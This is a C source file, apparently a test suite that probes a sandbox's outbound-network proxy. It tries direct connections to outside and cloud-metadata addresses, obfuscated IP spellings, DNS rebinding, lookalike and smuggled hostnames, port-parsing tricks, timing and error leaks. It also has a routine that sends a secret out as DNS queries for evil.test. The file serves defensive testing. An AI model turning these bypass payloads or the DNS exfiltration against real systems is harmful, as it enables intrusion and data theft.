/* Names and addresses at the doors of its cell, in every spelling: who is asked for. */
#include "review/program/call.h"

#include <arpa/inet.h>
#include <ctype.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>

/* ---- around the doors ---- */

static void direct(const char *address, uint16_t port, int kind)
{
	struct sockaddr_in6 six = { .sin6_family = AF_INET6, .sin6_port = htons(port) };
	struct sockaddr_in four = { .sin_family = AF_INET, .sin_port = htons(port) };
	bool is_six = strchr(address, ':') != NULL;
	struct timeval patience = { .tv_sec = 2 };
	char what[96];

	inet_pton(is_six ? AF_INET6 : AF_INET, address, is_six ? (void *)&six.sin6_addr : &four.sin_addr);
	int fd = socket(is_six ? AF_INET6 : AF_INET, kind, 0);
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
	long rc = connect(fd, is_six ? (void *)&six : (void *)&four, is_six ? sizeof(six) : sizeof(four));
	if (rc == 0)
		rc = send(fd, "out", 3, MSG_NOSIGNAL) == 3 ? 0 : -1;
	snprintf(what, sizeof(what), "%s-%s-%u", kind == SOCK_STREAM ? "tcp" : "udp", address, port);
	got(what, rc);
	close(fd);
}

/* direct: to addresses outside, past every door */
static int attack_direct(int argc, char **argv)
{
	static const char *const addresses[] = { "93.184.215.14", "93.184.215.15", "10.0.0.1", "169.254.169.254",
		"192.168.1.1", "100.64.0.1", "2606:2800:21f::14", "fd00::1", "2001:db8::1" };
	static const uint16_t ports[] = { 443, 80, 53 };

	(void)argc, (void)argv;
	for (size_t i = 0; i < COUNT(addresses); i++)
		for (size_t j = 0; j < COUNT(ports); j++)
			for (int kind = SOCK_STREAM; kind <= SOCK_DGRAM; kind++)
				direct(addresses[i], ports[j], kind);
	/* what listens on the machine's loopback is not on the cell's; a datagram to nobody is sent all the same */
	direct("127.0.0.1", 8080, SOCK_STREAM);
	direct("127.0.0.1", 80, SOCK_STREAM);
	direct("::1", 80, SOCK_STREAM);
	return 0;
}

/* ---- addresses ---- */

static const uint32_t plain[] = { 0x5db8d70f, 0x7f000001, 0, 0xa9fea9fe, 0x0a000001 };
static const char *const ways[] = { "%u", "0%o", "0x%x", "0X%X", "000%o", "0x0000%x" };

/* An IPv4 address in 1 to 4 numbers, each written in its way. */
static void spell(uint32_t address, int parts, const int *how, char *ret, size_t size)
{
	int len = 0;

	for (int i = 0; i < parts; i++) {
		uint32_t number = i < parts - 1 ? address >> (24 - 8 * i) & 0xff
			: parts == 1            ? address
						: address & (0xffffffffu >> 8 * i);
		len += snprintf(ret + len, size - (size_t)len, i ? "." : "");
		len += snprintf(ret + len, size - (size_t)len, ways[how[i]], number);
	}
}

static void spellings(uint32_t address)
{
	char text[256];

	for (int parts = 1; parts <= 4; parts++) {
		for (int way = 0; way < (int)COUNT(ways); way++) {
			int how[4] = { way, way, way, way };
			spell(address, parts, how, text, sizeof(text));
			ask_for_text("%s:443", text);
			ask_for_text("%s.:443", text);
		}
	}
	for (unsigned mixed = 7; mixed < 6 * 6 * 6 * 6; mixed += 131) { /* a way for each number */
		int how[4] = { (int)(mixed % 6), (int)(mixed / 6 % 6), (int)(mixed / 36 % 6), (int)(mixed / 216 % 6) };
		spell(address, 4, how, text, sizeof(text));
		ask_for_text("%s:443", text);
	}
}

/* IPv4 inside IPv6, and zones. */
static void spellings6(uint32_t address)
{
	unsigned high = address >> 16, low = address & 0xffff;

	ask_for_text("[::ffff:%x:%x]:443", high, low);
	ask_for_text("[::FFFF:%u.%u.%u.%u]:443", address >> 24, address >> 16 & 255, address >> 8 & 255, address & 255);
	ask_for_text("[0:0:0:0:0:ffff:%x:%x]:443", high, low);
	ask_for_text("[::%x:%x]:443", high, low);
	ask_for_text("[64:ff9b::%x:%x]:443", high, low);
	ask_for_text("[2002:%x:%x::]:443", high, low);
	ask_for_text("[::ffff:%x:%x%%lo]:443", high, low);
	ask_for_text("[::ffff:%x:%x%%25lo]:443", high, low);
}

/* The digits as characters that look like digits, or are digits to somebody. */
static void spellings_text(uint32_t address)
{
	char dotted[32], wide[128] = "", percent[128] = "", twice[256] = "", circled[128] = "";

	snprintf(dotted, sizeof(dotted), "%u.%u.%u.%u", address >> 24, address >> 16 & 255, address >> 8 & 255,
		address & 255);
	for (const char *at = dotted; *at; at++) {
		bool dot = *at == '.';
		sprintf(wide + strlen(wide), dot ? "\xef\xbc\x8e" : "\xef\xbc%c", 0x90 + (*at - '0'));
		sprintf(circled + strlen(circled),
			dot                  ? "\xe3\x80\x82"
				: *at == '0' ? "\xe2\x93\xaa"
					     : "\xe2\x91%c",
			0x9f + (*at - '0'));
		sprintf(percent + strlen(percent), "%%%02x", *at);
		sprintf(twice + strlen(twice), "%%25%02x", *at);
	}
	const char *const forms[] = { wide, circled, percent, twice };
	for (size_t i = 0; i < COUNT(forms); i++)
		ask_for_text("%s:443", forms[i]);
	static const char *const frames[] = { "good.test@%s:443", "good.test:443@%s:443", "%s:443@good.test",
		"%s#good.test:443", "%s?good.test:443", "%s\\good.test:443", "%s/good.test:443", "%s;good.test:443",
		"%s..:443", "[%s]:443", "good.test,%s:443", "%s%%00.good.test:443", " %s:443", "%s :443" };
	for (size_t i = 0; i < COUNT(frames); i++) {
		char made[256];
		snprintf(made, sizeof(made), frames[i], dotted);
		ask_for_text("%s", made);
	}
}

/* literals: addresses in every spelling */
static int attack_literals(int argc, char **argv)
{
	static const char *const odd[] = { "[::1]:443", "[::]:443", "[fe80::1]:443", "[::1%lo]:443",
		"[fe80::1%25eth0]:443", "[::1:443", "::1]:443", "[]:443", "[good.test]:443", "127.1:443", "0:443",
		"0x:443", "localhost:443", "localhost.:443", "localhost.localdomain:443", "ip6-localhost:443",
		"[0000:0000:0000:0000:0000:0000:0000:0001]:443" };

	(void)argc, (void)argv;
	for (size_t i = 0; i < COUNT(plain); i++)
		spellings(plain[i]), spellings6(plain[i]), spellings_text(plain[i]);
	for (size_t i = 0; i < COUNT(odd); i++)
		ask_for_text("%s", odd[i]);
	return 0;
}

/* private: an allowed name whose address is not public, by every way a name has to an address */
static int attack_private(int argc, char **argv)
{
	static const char *const four[] = { "7f000001", "7f000035", "7ffffffe", "0a000001", "ac100001", "ac1ffffe",
		"c0a80001", "64400001", "647ffffe", "a9fea9fe", "a9fe0001", "a83f8110", "00000000", "00000001",
		"c00000c0", "c6120001", "cb007101", "f0000001", "e0000001", "ffffffff", "5db8d75a" };
	static const char *const six[] = { "00000000000000000000000000000001", "00000000000000000000000000000000",
		"fd000000000000000000000000000001", "fc000000000000000000000000000001",
		"fe800000000000000000000000000001", "20010db8000000000000000000000001",
		"00000000000000000000ffff7f000001", "00000000000000000000ffff5db8d70f",
		"0064ff9b00000000000000007f000001", "20027f00000100000000000000000000",
		"0000000000000000000000007f000001", "ff020000000000000000000000000001" };

	(void)argc, (void)argv;
	for (size_t i = 0; i < COUNT(four); i++) {
		ask_for_text("a-%s.good.test:80", four[i]);
		ask_for_text("c-%s.good.test:80", four[i]);
	}
	for (size_t i = 0; i < COUNT(six); i++)
		ask_for_text("q-%s.good.test:80", six[i]);
	return 0;
}

/* rebind: names whose address changes between two questions, and such with two addresses */
static int attack_rebind(int argc, char **argv)
{
	static const char *const names[] = { "t-5db8d70e-7f000001", "t-7f000001-5db8d70e", "m-7f000001-5db8d70e",
		"m-5db8d70e-7f000001", "t-5db8d70e-a9fea9fe", "m-a9fea9fe-0a000001" };

	(void)argc, (void)argv;
	for (int round = 0; round < 3; round++)
		for (size_t i = 0; i < COUNT(names); i++)
			ask_for_text("%s.good.test:80", names[i]);
	return 0;
}

/* ---- names ---- */

static int ask_all(const char *const *targets, size_t count)
{
	for (size_t i = 0; i < count; i++)
		ask_for_text("%s", targets[i]);
	return 0;
}

/* denied: names that no rule allows; nobody may even be asked where they are */
static int attack_denied(int argc, char **argv)
{
	static const char *const names[] = { "evil.test", "good.test.evil.test", "cell", "metadata.google.internal",
		"evilgood.test", "good.test.evil", "good.testing", "ood.test", "test", "good", "sub.good.test",
		"wild.test", "evilwild.test", "a.evilwild.test", "wild.test.evil", "a-wild.test", "goodxtest",
		"xgood.test", "good-.test", "wild.test.good.test" };
	static const unsigned ports[] = { 80, 443, 8080 };

	(void)argc, (void)argv;
	for (size_t i = 0; i < COUNT(names); i++)
		for (size_t j = 0; j < COUNT(ports); j++)
			ask_for_text("%s:%u", names[i], ports[j]);
	return 0;
}

/* bytes: every byte that no name has, and what stands for one */
static int attack_bytes(int argc, char **argv)
{
	static const char *const frames[][2] = { { "evil", ".good.test:80" }, { "good.test", ":80" },
		{ "evil.test", ".good.test:80" }, { "", "good.test:80" } };
	static const char *const odd[] = { "\xe3\x80\x82", "\xef\xbc\x8e", "\xef\xbd\xa1", "\xd0\xb0", "\xef\xbd\x87",
		"\xc2\xad", "\xe2\x80\x8b", "%2e", "%252e", "%00", "%2500", "%c0%ae", "\xc0\xae", "\\", "user@",
		"user:word@", "\r\nX: y", "\t", "evil.test@", "evil.test%40", "evil.test#", "evil.test%23@",
		"evil.test\\@" };
	static struct text request, answer;

	(void)argc, (void)argv;
	for (size_t frame = 0; frame < COUNT(frames); frame++) {
		for (int byte = 0; byte < 256 + (int)COUNT(odd); byte++) {
			struct text target = { .len = 0 };
			char one = (char)byte;
			if (byte < 256 && (isalnum(byte) || byte == '-' || byte == '.' || byte == ':' || byte == '_'))
				continue;
			text_put(&target, "%s", frames[frame][0]);
			text_add(
				&target, byte < 256 ? &one : odd[byte - 256], byte < 256 ? 1 : strlen(odd[byte - 256]));
			text_put(&target, "%s", frames[frame][1]);
			request_make(&request, byte & 1, target.bytes, target.len);
			told(byte & 1 ? "GET" : "CONNECT", target.bytes, target.len, ask(&request, &answer));
		}
	}
	return 0;
}

/* forms: one name in other forms, which are the same or no name at all */
static int attack_forms(int argc, char **argv)
{
	static const char *const same[] = { "good.test:80", "GOOD.TEST:80", "Good.Test.:80", "gOOD.tEST.:80" };
	static const char *const other[] = { "good.test..:80", ".good.test:80", "good..test:80", "..:80", ".:80",
		"-good.test:80", "good-.test:80", "GOOD.TEST.EVIL:80", "EVIL.TEST:80",
		"gggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggggg.test:80" };

	(void)argc, (void)argv;
	for (size_t i = 0; i < COUNT(same); i++)
		ask_for_text("%s", same[i]);
	return ask_all(other, COUNT(other));
}

/* lookalikes: encoded names, users, and other texts in which one name is and another is seen */
static int attack_lookalikes(int argc, char **argv)
{
	static const char *const names[] = { "xn--god-0na.test:80", "a.xn--god-0na.test:80", "XN--GOD-0NA.test:80",
		"xn--80ak6aa92e.wild.test:80", "a.xn--p1ai.wild.test:80", "user@good.test:80", "user:word@good.test:80",
		"good.test@evil.test:80", "good.test:80@evil.test:80", "evil.test%40good.test:80", "@good.test:80",
		"g%6fod.test:80", "g%256fod.test:80", "good%2etest:80", "good%252etest:80", "good\xe3\x80\x82test:80",
		"good\xef\xbc\x8etest:80", "\xef\xbd\x87ood.test:80",
		"g\xd0\xbe"
		"od.test:80",
		"evil.test\\.good.test:80", "evil.test/.wild.test:80", "evil.test?.wild.test:80",
		"evil.test#.wild.test:80", "evil.test;.wild.test:80" };

	(void)argc, (void)argv;
	return ask_all(names, COUNT(names));
}

/* ports: others than the rule's, and texts that are some port to somebody */
static int attack_ports(int argc, char **argv)
{
	static const char *const ports[] = { "22", "443", "81", "800", "65535", "0", "99999", "65536", "080", "0080",
		"+80", "-80", "80x", "x80", "0x50", "4294967376", "18446744073709551696", "", "80:80", "80:", ":80",
		"\xef\xbc\x98\xef\xbc\x90", "80%20", "8e1", "80@22", "22#80", "80\\22" };

	(void)argc, (void)argv;
	for (size_t i = 0; i < COUNT(ports); i++) {
		static struct text request, answer;
		char target[64];
		snprintf(target, sizeof(target), "good.test:%s", ports[i]);
		request_make(&request, false, target, strlen(target));
		told("CONNECT", target, strlen(target), ask(&request, &answer));
	}
	return 0;
}

/* ---- without a word ---- */

static long ask_name_server(const char *server, const char *name)
{
	unsigned char question[300] = { 0, 7, 1, 0, 0, 1 }, answer[512];
	size_t at = 12;
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(53) };
	struct timeval patience = { .tv_usec = 100000 };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	while (*name) {
		size_t len = strcspn(name, ".");
		question[at++] = (unsigned char)len;
		memcpy(question + at, name, len);
		at += len;
		name += len + (name[len] == '.');
	}
	memcpy(question + at, "\0\0\1\0\1", 5);
	inet_pton(AF_INET, server, &to.sin_addr);
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
	long rc = sendto(fd, question, at + 5, 0, (struct sockaddr *)&to, sizeof(to));
	if (rc >= 0)
		rc = recv(fd, answer, sizeof(answer), 0);
	int error = errno;
	close(fd);
	errno = error;
	return rc < 0 ? -1 : 0;
}

/* dns SECRET: carry it out in questions for names, by every way to a name server */
static int attack_dns(int argc, char **argv)
{
	static const char *const servers[] = { "127.0.0.1", "127.0.0.53", "8.8.8.8", "93.184.215.14",
		"169.254.169.253" };
	char name[200], what[96];

	if (argc != 1)
		return 99;
	snprintf(name, sizeof(name), "%.60s.evil.test", argv[0]);
	for (size_t i = 0; i < COUNT(servers); i++) {
		snprintf(what, sizeof(what), "asked-%s", servers[i]);
		got(what, ask_name_server(servers[i], name));
	}
	ask_for_text("%s:443", name);
	ask_for_text("%s:80", name);
	ask_for_text("%.60s.good.test:443", argv[0]);
	ask_for_text("%.60s:443", argv[0]);
	return 0;
}

static long long now_us(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec * 1000000LL + time.tv_nsec / 1000;
}

/* timing: is a denied name that is slow to look up refused more slowly than one that is not there? */
static int attack_timing(int argc, char **argv)
{
	static struct text request, answer;
	long long least[2] = { INT64_MAX, INT64_MAX };

	(void)argc, (void)argv;
	for (int i = 0; i < 40; i++) {
		const char *target = i & 1 ? "d-5db8d70f.evil.test:443" : "a-5db8d70f.evil.test:443";
		request_make(&request, false, target, strlen(target));
		long long begun = now_us();
		int status = ask(&request, &answer);
		long long took = now_us() - begun;
		least[i & 1] = took < least[i & 1] ? took : least[i & 1];
		told("CONNECT", target, strlen(target), status);
	}
	got_number("fast-us", least[0]);
	got_number("slow-us", least[1]);
	return 0;
}

/* leaks: what is told to a cell when something fails outside */
static int attack_leaks(int argc, char **argv)
{
	static const char *const targets[] = { "a-7f000001.good.test:80", "a-0a000001.good.test:80",
		"q-fd000000000000000000000000000001.good.test:80", "m-7f000001-0a000001.good.test:80",
		"a-5db8d70e.good.test:9", "evil.test:80", "a b:80", "good.test:99999" };
	static struct text request, answer;

	(void)argc, (void)argv;
	for (size_t i = 0; i < COUNT(targets); i++) {
		request_make(&request, i & 1, targets[i], strlen(targets[i]));
		told("ask", targets[i], strlen(targets[i]), ask(&request, &answer));
		printf("%s\n", answer.bytes);
	}
	return 0;
}

const struct attack doors_attacks[] = {
	{ "direct", attack_direct },
	{ "literals", attack_literals },
	{ "private", attack_private },
	{ "rebind", attack_rebind },
	{ "denied", attack_denied },
	{ "bytes", attack_bytes },
	{ "forms", attack_forms },
	{ "lookalikes", attack_lookalikes },
	{ "ports", attack_ports },
	{ "dns", attack_dns },
	{ "timing", attack_timing },
	{ "leaks", attack_leaks },
	{ 0 },
};
